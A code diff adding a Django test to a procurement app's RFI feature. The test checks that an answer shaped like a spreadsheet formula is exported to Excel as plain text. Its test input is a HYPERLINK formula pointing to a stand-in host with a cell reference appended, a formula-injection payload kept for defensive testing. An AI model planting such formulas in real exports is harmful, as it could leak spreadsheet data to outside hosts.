@@ -204,3 +204,20 @@ def test_rfi_lists_and_answers_do_not_query_per_row(client, procurer, bid_manage
     for user, pages in urls.items():
         client.force_login(user)
         assert [_count_queries(client, url) for url in pages] == before[user], user
+
+
+def test_an_rfi_answer_that_looks_like_a_formula_stays_text_in_the_excel_export(
+    client, procurer, bid_manager, rfi
+):
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
+    RfiAnswer.objects.create(rfi=rfi, organisation=bid_manager.organisation, text=formula)
+    client.force_login(procurer)
+    response = client.get(reverse("dialogue:rfi_export", args=[rfi.pk]))
+    sheet = load_workbook(BytesIO(response.content)).active
+    cell = sheet.cell(row=2, column=6)
+    assert cell.value == formula
+    assert cell.data_type == "s"
